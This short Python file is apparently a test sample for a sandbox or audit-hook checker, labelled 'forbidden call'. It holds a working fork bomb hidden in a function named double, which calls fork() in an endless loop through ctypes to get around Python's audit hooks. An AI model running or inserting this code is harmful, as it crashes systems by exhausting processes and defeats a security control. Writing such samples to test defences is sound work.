"""A fork bomb past Python's audit hook.

cause: forbidden call
"""

import ctypes


def double(x):
    while True:
        ctypes.CDLL(None).fork()
